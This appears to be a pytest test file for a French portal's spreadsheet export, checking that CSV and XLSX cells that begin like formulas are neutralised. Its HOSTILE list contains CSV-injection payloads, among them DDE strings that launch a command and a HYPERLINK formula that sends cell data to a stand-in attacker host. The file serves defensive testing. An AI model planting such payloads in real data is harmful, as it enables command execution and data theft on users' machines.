"""No cell the portal writes runs as a formula in a spreadsheet, whatever an employee's name holds; the CSV
is what French Excel opens (BOM, ``;``, jj/mm/aaaa) and the xlsx reads back with openpyxl."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from ocso_app.services import spreadsheets
from ocso_app.services.spreadsheets import Sheet, neutralise, starts_like_formula

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "=1+1\n=2+2",
]
HARMLESS = ["DUPONT", "Jean-Pierre", "O'Neil", "Zoé", "12 rue de la Paix", "", "a=b", "3 + 4"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_starts_like_a_formula_is_neutralised(text):
    assert starts_like_formula(text)
    safe = neutralise(text)
    assert safe.startswith("'") and not starts_like_formula(safe)
    assert safe.lstrip("'").lstrip(" ").lstrip("\t\r") in text


@pytest.mark.parametrize("text", HARMLESS)
def test_an_ordinary_text_is_kept_as_it_is(text):
    assert not starts_like_formula(text)
    assert neutralise(text) == text


def test_characters_xml_cannot_hold_are_dropped():
    assert neutralise("DU\x00PONT\x1b") == "DUPONT"


def _sheet() -> Sheet:
    rows = [(name, date(1985, 4, 2), None) for name in [*HOSTILE, "DUPONT"]]
    return Sheet(title="Essai", headings=("Nom", "Date de naissance", "Vide"), rows=rows)


def _read(file_format) -> bytes:
    return b"".join(spreadsheets.chunks(spreadsheets.write(_sheet(), file_format)))


def test_the_csv_is_utf8_with_a_bom_semicolons_french_dates_and_no_formula():
    text = _read(spreadsheets.CSV).decode("utf-8")
    assert text.startswith("\ufeffNom;Date de naissance;Vide\r\n")
    assert "DUPONT;02/04/1985;\r\n" in text
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == len(HOSTILE) + 2
    assert all(not starts_like_formula(row[0]) for row in rows)


def test_the_csv_keeps_the_apostrophe_before_a_text_that_starts_like_a_formula():
    """A CSV cell has no type: the apostrophe is what keeps a spreadsheet from running it (OWASP)."""
    text = _read(spreadsheets.CSV).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert [row[0] for row in rows[1:]] == [neutralise(t) for t in [*HOSTILE, "DUPONT"]]
    assert rows[3][0] == "'+33 6 12 34 56 78"


def test_the_xlsx_shows_a_text_that_starts_like_a_formula_as_typed_and_never_runs_it():
    """« +33 6 12 34 56 78 » read « '+33 6 12 34 56 78 » in Excel, « -Marie » « '-Marie »: the apostrophe
    written into an xlsx text cell is shown. Excel stores such a text as it is, in a text cell whose style
    says « quotePrefix », which keeps it text when the cell is edited."""
    content = _read(spreadsheets.XLSX)
    book = load_workbook(io.BytesIO(content))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    # XML reads a carriage return as a line feed: the text is otherwise exactly the one given
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in [*HOSTILE, "DUPONT"]]
    assert cells[2].value == "+33 6 12 34 56 78"
    for cell in cells:
        assert cell.data_type == "s" and isinstance(cell.value, str)
        assert cell.quotePrefix == (cell.value != "DUPONT")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet  # no cell holds a formula


def test_the_xlsx_drops_the_characters_xml_cannot_hold_and_keeps_a_harmless_text_plain():
    rows = [("-Marie\x00",), ("DU\x1bPONT",), ("O'Neil",)]
    sheet = Sheet(title="Essai", headings=("Nom",), rows=rows)
    book = load_workbook(
        io.BytesIO(b"".join(spreadsheets.chunks(spreadsheets.write(sheet, spreadsheets.XLSX))))
    )
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert [(c.value, c.quotePrefix) for c in cells] == [
        ("-Marie", True),
        ("DUPONT", False),
        ("O'Neil", False),
    ]


def test_the_xlsx_reads_back_with_openpyxl_with_real_dates_and_only_text():
    book = load_workbook(io.BytesIO(_read(spreadsheets.XLSX)))
    (sheet,) = book.worksheets
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Nom", "Date de naissance", "Vide")
    assert rows[-1][0] == "DUPONT" and rows[-1][1].date() == date(1985, 4, 2)
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))  # text, never a formula
    # opened in a spreadsheet program: the headings stay in view, filter the rows, fit their column
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:C{len(rows)}"
    assert sheet.column_dimensions["B"].width == len("Date de naissance") + 4
